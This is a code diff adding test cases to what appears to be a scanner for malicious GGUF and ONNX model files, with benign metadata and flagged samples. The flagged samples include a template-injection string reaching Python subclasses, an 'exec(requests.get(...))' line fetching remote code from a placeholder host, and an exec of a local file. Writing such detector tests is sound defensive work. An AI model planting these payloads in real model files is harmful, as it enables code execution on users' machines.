@@ -38,6 +38,7 @@ final class SidewayTrials {
         trials.nested();
         trials.objects();
         trials.graphs();
+        trials.words();
         trials.documents();
         trials.machines();
         trials.archives();
@@ -138,8 +139,38 @@ final class SidewayTrials {
                 "m.gguf",
                 new GgufFiles()
                         .text("general.description", "Fetch it with wget or curl from our site")
+                        .text(
+                                "general.usage",
+                                "wget commands for mirrors are listed at https://example.com/mirrors")
+                        .text(
+                                "general.example",
+                                "curl http://localhost:8080/v1/completions -d '{}'")
+                        .text(
+                                "general.readme",
+                                "Ask it:\n```python\nr = requests.post('http://localhost:8000/v1', json=q)\n```")
                         .text("general.source.url", "https://example.com/a%20b/%2Fc")
                         .file());
+    }
+
+    private void words() {
+        String climb = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
+        bad("gguf-value", "m.gguf", new GgufFiles().texts("general.tags", "a", climb).file());
+        bad(
+                "gguf-asks-and-runs",
+                "m.gguf",
+                new GgufFiles()
+                        .text("general.usage", "exec(requests.get('https://c.example/x').text)")
+                        .file());
+        String frames =
+                """
+                /usr/lib/python3/dist-packages/torch/nn/functional.py(1118): relu
+                /usr/lib/python3.9/runpy.py(85): _run_code exec(code, globals)
+                """;
+        benign("onnx-frames", "m.onnx", onnx(joined(field(4, "Relu"), field(6, frames))));
+        bad(
+                "onnx-frames-and-more",
+                "m.onnx",
+                onnx(joined(field(4, "Relu"), field(6, frames + "exec(open('/tmp/x').read())"))));
     }
 
     private void documents() {
